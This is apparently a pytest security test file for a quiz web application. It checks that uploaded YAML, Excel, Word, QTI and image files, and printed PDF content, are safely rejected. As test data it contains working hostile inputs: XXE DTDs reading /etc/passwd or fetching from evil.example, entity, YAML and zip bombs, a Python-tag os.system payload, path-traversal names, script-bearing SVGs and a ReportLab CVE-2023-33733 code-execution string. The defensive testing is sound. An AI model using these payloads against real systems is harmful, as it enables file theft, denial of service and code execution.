"""Attacks 16, 17 and 18: files that explode, point elsewhere, lie about what they are, or carry code; through the pages that take files."""

from __future__ import annotations

import ast
import io
import zipfile
from dataclasses import replace
from datetime import date
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from reportlab import rl_config
from sqlalchemy import Engine
from werkzeug.test import TestResponse

import quiz
from quiz.banks.yaml_tree import MAX_DEPTH
from quiz.core.paper import Candidate
from quiz.core.question import Option, QuestionType
from quiz.formats import table
from quiz.formats.excel_in import read_excel
from quiz.formats.qti import read_qti
from quiz.formats.roster_table import read_roster
from quiz.formats.word_in import read_docx
from quiz.printing.job import PrintJob
from quiz.printing.paper_pdf import print_papers
from quiz.storage import turn
from quiz.web import people
from quiz.web.proposal_text import proof
from tests.web.world import Person, make_questions

HEADER = ["工号", "姓名", "单位编码"]
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DTDS = {
    "a bomb of entities": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
    "an entity of a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    "a DTD elsewhere": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
}
YAML_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8))
BAD_TEXTS: dict[str, tuple[bytes, str]] = {
    "bomb": (YAML_BOMB.encode(), "Y004"),
    "depth": (b"a: " + b"[" * 50_000, "Y008"),
    "braces": (b"{a: " * 50_000, "Y008"),
    "doubled key": (b"category: general/water\ncategory: general/other\n", "Y003"),
    "python tag": (b"!!python/object/apply:os.system ['touch pwned']\n", "Y005"),
    "merge key": (b"base: &b {id: x}\nquestions:\n- <<: *b\n", "Y004"),
    "GBK": ("category: 饮水".encode("gbk"), "Y010"),
    "NUL": (b"category: general\x00/water\n", "Y011"),
    "bidi": ("category: general/\u202eretaw\n".encode(), "Y011"),
    "zero width": ("category: gene\u200bral/water\n".encode(), "Y011"),
}
"""Texts, each with the rule by which it is told."""

NO_TEXT = ("GBK", "NUL")
"""What cannot even be kept as a draft."""


def workbook(*rows: list[object], far: bool = False, sheets: int = 1) -> bytes:
    """Return an Excel file with these rows on each sheet, with `far` one cell more in its very last row."""
    book = openpyxl.Workbook()
    for n in range(sheets):
        sheet = book.active if n == 0 else book.create_sheet()
        for row in rows:
            sheet.append(row)
        if far:
            sheet.cell(1_048_576, 1, "x")
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def changed(content: bytes, part: str, before: bytes, name: str = "") -> bytes:
    """Return a zip with something put before one of its parts, which is called `name` from then on wherever it is named."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.namelist():
            data = old.read(item)
            if item == part:
                end = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
                data = data[:end] + before + data[end:]
            if name:
                data = data.replace(part.rpartition("/")[2].encode(), name.rpartition("/")[2].encode())
            new.writestr(name if name and item == part else item, data)
    return out.getvalue()


def upload(app: Flask, content: bytes, name: str, path: str = "/roster", who: str = "organiser") -> TestResponse:
    """Send a file by the form of a page."""
    field = {"/roster": "file", "/bank/proposals/new": "file"}[path]
    reply = Person(app, who).post(path, {field: (BytesIO(content), name), "title": "稿"}, content_type="multipart/form-data")
    reply.request.environ["wsgi.input"].close()  # a large body is a temporary file, which the test client leaves open
    return reply


# --- 16: YAML ----------------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", BAD_TEXTS)
@pytest.mark.parametrize("path", ["/roster", "/bank/proposals/new"])
def test_a_text_that_is_a_trap_is_told_and_nothing_of_it_is_used(
    app: Flask, web_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    who = "organiser" if path == "/roster" else "setter"
    content, rule = BAD_TEXTS[name]
    reply = upload(app, content, "x.yaml", path, who)
    if reply.status_code == 302:  # kept as a draft with its faults, for its author to mend
        reply = Person(app, "setter").get(str(reply.location))
        assert 'name="do" value="submit"' not in reply.text or "处错误" in reply.text
    assert reply.status_code in (200, 422)
    assert ("不能作为题库稿读取" if name in NO_TEXT and who == "setter" else rule) in reply.text, reply.text[-2000:]
    assert not (tmp_path / "pwned").exists()


def test_a_text_of_6_megabytes_is_not_taken(app: Flask) -> None:
    big = b"# " + b"x" * 6_000_000
    assert upload(app, big, "x.yaml", "/bank/proposals/new", "setter").status_code in (413, 422)
    assert "Y009" in upload(app, big, "x.yaml").text


def test_depth_has_a_limit() -> None:
    assert MAX_DEPTH <= 50


# --- 17: packages ------------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", DTDS)
@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"]
)
def test_an_excel_file_declares_no_document_type(part: str, name: str) -> None:
    content = changed(workbook(HEADER, ["C1", "吕志江", "T01"]), part, DTDS[name].encode())
    roster, told = read_roster(content, "r.xlsx")
    assert (roster.cadres, [diagnostic.rule for diagnostic in told]) == ((), ["R612"])
    assert [diagnostic.rule for diagnostic in read_excel(content, "r.xlsx").diagnostics] == ["I806"]


def test_a_sheet_by_another_name_declares_none_either() -> None:
    """The package says which part is a sheet; a reader that looks at names alone would let this one pass."""
    part = "xl/worksheets/sheet1.xml"
    content = changed(workbook(HEADER, ["C1", "吕志江", "T01"]), part, DTDS["an entity of a file"].encode(), "xl/worksheets/sheet1.dat")
    _, told = read_roster(content, "r.xlsx")
    assert [diagnostic.rule for diagnostic in told] == ["R612"]


@pytest.mark.parametrize("name", DTDS)
def test_other_packages_declare_none(name: str) -> None:
    document = packed({"word/document.xml": f"{DTDS[name]}<w:document/>".encode(), "[Content_Types].xml": b"<Types/>"})
    assert [diagnostic.rule for diagnostic in read_docx(document, "x.docx").diagnostics] == ["I806"]
    manifest = packed({"imsmanifest.xml": f"{DTDS[name]}<manifest/>".encode()})
    assert {diagnostic.rule for diagnostic in read_qti(manifest, "x.zip").diagnostics} == {"I806"}


def packed(files: dict[str, bytes], compressed: bool = True) -> bytes:
    """Return a zip."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_a_bomb_is_not_unpacked(app: Flask) -> None:
    bomb = packed({"xl/worksheets/sheet1.xml": b"0" * 60_000_000})
    assert len(bomb) < 100_000
    assert "R612" in upload(app, bomb, "r.xlsx").text


def test_a_bomb_of_questions_is_not_unpacked() -> None:
    bomb = packed({"imsmanifest.xml": b"<manifest/>", "item.xml": b"0" * 60_000_000})
    assert {diagnostic.rule for diagnostic in read_qti(bomb, "x.zip").diagnostics} == {"I806"}


def test_a_bomb_that_lies_about_its_size_is_not_unpacked(app: Flask) -> None:
    """The directory of the zip says that the part is small; no more than that is ever unpacked."""
    bomb = bytearray(packed({"xl/worksheets/sheet1.xml": b"0" * 60_000_000}))
    small = (1000).to_bytes(4, "little")
    for header, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = bomb.find(header) + at
        bomb[start : start + 4] = small
    assert "R611" in upload(app, bytes(bomb), "r.xlsx").text


def test_rows_far_below_are_not_counted_for_ever() -> None:
    far = workbook(HEADER, ["C1", "吕志江", "T01"], far=True)
    tables, told = table.read_tables(far, "r.xlsx")
    assert (len(tables[0].rows), told) == (3, ())
    _, told = table.read_tables(workbook(HEADER, far=True, sheets=3), "r.xlsx")
    assert [diagnostic.rule for diagnostic in told] == ["R612"]


def test_no_save_waits_while_a_roster_is_read(app: Flask, web_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    free = []
    read = people._read

    def watched(*arguments: object) -> object:
        lock = turn._threads.get(str(web_engine.url))
        free.append(lock is None or not lock.locked())
        return read(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(people, "_read", watched)
    assert upload(app, workbook(HEADER, ["C1", "吕志江", "T01"]), "r.xlsx").status_code == 200
    assert free == [True]


@pytest.mark.parametrize("path", ["../evil.xml", "/etc/passwd", "..\\evil.xml", "C:\\evil.xml", "a/../../evil.xml"])
def test_no_path_leads_out_of_a_package(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    monkeypatch.chdir(tmp_path)
    found = read_qti(packed({"imsmanifest.xml": b"<manifest/>", path: b"<x/>"}), "x.zip")
    assert {diagnostic.rule for diagnostic in found.diagnostics} == {"I806"}
    content = changed(workbook(HEADER, ["C1", "吕志江", "T01"]), "xl/styles.xml", b"", f"xl/{path}")
    read_roster(content, "r.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("x.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("x.png", b"GIF89a" + b"\0" * 100),
        ("x.jpg", b"<html><script>alert(1)</script>"),
        ("x.png", b"\x89PNG\r\n\x1a\n" + b"not a picture"),
        ("x.png", b"%PDF-1.7 \x89PNG\r\n\x1a\n"),
        ("x.svg", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>"),
        ("../../x.png", b"GIF89a"),
    ],
)
def test_a_picture_that_is_none_is_not_taken(app: Flask, name: str, content: bytes) -> None:
    fields = {"title": "稿", "source": "category: general/water\nquestions: []\n", "pictures": (BytesIO(content), name)}
    reply = Person(app, "setter").post("/bank/proposals/new", fields, content_type="multipart/form-data")
    assert reply.status_code == 422
    assert "不能用" in reply.text


@pytest.mark.parametrize("name", ["r.exe", "r.xlsm", "r.html", "r.xlsx.php", "r"])
def test_only_the_kinds_of_file_that_are_asked_for_are_taken(app: Flask, name: str) -> None:
    assert upload(app, workbook(HEADER), name).status_code == 422


# --- 18: what prints --------------------------------------------------------------------------------------------------------------------------

EXPLOIT = (
    "[[[getattr(pow, Word('__globals__'))['os'].system('touch {mark}') for Word in [orgTypeFun('Word', (str,), {{}})]] "
    "for orgTypeFun in [type(type(1))]] and 'red'"
)
"""The shape of CVE-2023-33733: a colour that ReportLab's reader of mark-up once evaluated."""


def test_a_stem_is_no_mark_up_for_the_printer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "local.png").write_bytes(b"local secret")
    mark = tmp_path / "pwned"
    exploit = EXPLOIT.format(mark=mark.as_posix())
    texts = (
        f'<para><font color="{exploit}">x</font></para>',
        '<img src="local.png" width="9" height="9"/>',
        '<img src="file:///etc/passwd"/>',
        '<a href="javascript:alert(1)">x</a>',
        "<b><i>unclosed <para",
        "<onDraw name='x' label='y'/>",
    )
    question = next(question for question in make_questions() if question.type is QuestionType.SINGLE)
    asked = [
        replace(
            question, uid=f"q{n}", stem=text, explanation=text, options=tuple(Option(c, f"{c}{text}") for c in "ABCD"), valid_from=date(2026, 1, 1)
        )
        for n, text in enumerate(texts)
    ]
    out = io.BytesIO()
    candidate = Candidate(texts[4], "Q1", texts[0][:20], texts[3], "1")
    print_papers([PrintJob(proof("<b>卷", "DRAFT", asked), candidate)], out, with_key=True)
    assert out.getvalue().startswith(b"%PDF")
    assert not mark.exists()
    assert b"local secret" not in out.getvalue()
    assert b"javascript:" not in out.getvalue()


def test_nothing_that_prints_reads_mark_up() -> None:
    """ReportLab's paragraphs read it, and fetch the pictures and evaluate the colours that stand in it."""
    used = set()
    for path in Path(quiz.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("reportlab"):
                used |= {f"{node.module}.{name.name}" for name in node.names}
            elif isinstance(node, ast.Import):
                used |= {name.name for name in node.names if name.name.startswith("reportlab")}
    assert used
    reads_none = ("reportlab.rl_config", "reportlab.lib.utils", "reportlab.pdfbase", "reportlab.pdfgen.canvas")
    assert [name for name in sorted(used) if not name.startswith(reads_none)] == []


def test_reportlab_evaluates_no_colour() -> None:
    assert rl_config.toColorCanUse == "rl_extended_literal_eval"
